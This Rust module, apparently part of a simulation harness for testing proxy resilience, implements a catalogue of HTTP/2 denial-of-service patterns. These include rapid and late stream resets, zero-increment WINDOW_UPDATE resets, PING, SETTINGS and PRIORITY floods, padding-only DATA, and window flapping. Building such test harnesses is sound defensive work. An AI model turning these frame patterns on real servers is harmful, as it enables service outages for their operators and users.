//! Much of what costs the sender nothing.

use std::io;
use std::thread;
use std::time::Duration;

use shuntyard_sim::refcodec::field;
use shuntyard_sim::refcodec::frame::{CANCEL, Frame, INITIAL_WINDOW_SIZE};

use crate::peer::Peer;

/// Frames of one turn.
const BURST: u32 = 200;

fn times(frame: &Frame) -> impl Iterator<Item = Frame> {
    (0..BURST).map(|_| frame.clone())
}

/// Requests that are taken back as soon as they are made.
pub fn rapid_reset(peer: &mut Peer) -> io::Result<()> {
    let mut frames = Vec::new();
    for _ in 0..BURST / 4 {
        let (stream, request) = peer.request("GET", "/attack/small", &[], true);
        frames.extend([request, Frame::RstStream { stream, code: CANCEL }]);
    }
    peer.frames(frames)
}

/// Requests that are taken back as soon as they may have reached the origin.
pub fn late_reset(peer: &mut Peer) -> io::Result<()> {
    let (streams, requests): (Vec<_>, Vec<_>) =
        (0..20).map(|_| peer.request("GET", "/attack/never", &[], true)).unzip();
    peer.frames(requests)?;
    thread::sleep(Duration::from_millis(2));
    peer.frames(streams.into_iter().map(|stream| Frame::RstStream { stream, code: CANCEL }))
}

/// Requests, each followed by what makes the proxy reset it.
pub fn made_you_reset(peer: &mut Peer) -> io::Result<()> {
    let mut frames = Vec::new();
    for _ in 0..BURST / 4 {
        let (stream, request) = peer.request("GET", "/attack/small", &[], true);
        frames.extend([request, Frame::WindowUpdate { stream, increment: 0 }]);
    }
    peer.frames(frames)
}

/// Requests that the proxy has to refuse.
pub fn malformed_requests(peer: &mut Peer) -> io::Result<()> {
    let bad = [field("connection", "close")];
    let frames: Vec<_> = (0..BURST / 4).map(|_| peer.request("GET", "/attack/bad", &bad, true).1).collect();
    peer.frames(frames)
}

/// PING without end.
pub fn pings(peer: &mut Peer) -> io::Result<()> {
    peer.frames(times(&Frame::Ping { ack: false, opaque: *b"attacker" }))
}

/// SETTINGS without end.
pub fn settings(peer: &mut Peer) -> io::Result<()> {
    peer.frames(times(&Frame::Settings { ack: false, settings: vec![(INITIAL_WINDOW_SIZE, 65_535)] }))
}

/// SETTINGS of 16 KiB.
pub fn settings_of_many(peer: &mut Peer) -> io::Result<()> {
    let settings = (0..2_700).map(|n| (INITIAL_WINDOW_SIZE, 65_535 - n % 2)).collect();
    peer.frames([Frame::Settings { ack: false, settings }])
}

/// PRIORITY of many streams.
pub fn priorities(peer: &mut Peer) -> io::Result<()> {
    let frames = (0..BURST).map(|n| Frame::Priority { stream: 2 * n + 1, priority: [0, 0, 0, 0, 255] });
    peer.frames(frames.collect::<Vec<_>>())
}

/// Frames of a type that nobody knows.
pub fn unknown_frames(peer: &mut Peer) -> io::Result<()> {
    peer.frames(times(&Frame::Unknown { kind: 0xfa, flags: 0, stream: 0, payload: vec![] }))
}

/// DATA without content, on one stream.
pub fn empty_data(peer: &mut Peer) -> io::Result<()> {
    let stream = upload(peer)?;
    peer.frames(times(&Frame::Data { stream, content: vec![], padding: None, end: false }))
}

/// DATA that is padding only.
pub fn padding(peer: &mut Peer) -> io::Result<()> {
    let stream = upload(peer)?;
    peer.frames(times(&Frame::Data { stream, content: vec![], padding: Some(255), end: false }))
}

/// The first stream: a request whose content never ends.
fn upload(peer: &mut Peer) -> io::Result<u32> {
    if peer.has_opened() {
        return Ok(1);
    }
    let (stream, request) = peer.request("POST", "/attack/upload", &[], false);
    peer.frames([request])?;
    Ok(stream)
}

/// WINDOW_UPDATE of the connection by one octet each.
pub fn window_updates(peer: &mut Peer) -> io::Result<()> {
    peer.frames(times(&Frame::WindowUpdate { stream: 0, increment: 1 }))
}

/// A hundred downloads.
pub fn open_downloads(peer: &mut Peer) -> io::Result<()> {
    peer.greet_with(vec![(INITIAL_WINDOW_SIZE, 0x7fff_ffff)])?;
    let mut frames = vec![Frame::WindowUpdate { stream: 0, increment: 0x7fff_0000 }];
    frames.extend((0..100).map(|_| peer.request("GET", "/attack/big", &[], true).1));
    peer.frames(frames)
}

/// The window of all streams up and down.
pub fn window_flapping(peer: &mut Peer) -> io::Result<()> {
    let frames = (0..BURST).map(|n| Frame::Settings {
        ack: false,
        settings: vec![(INITIAL_WINDOW_SIZE, if n % 2 == 0 { 0 } else { 0x7fff_ffff })],
    });
    peer.frames(frames.collect::<Vec<_>>())
}
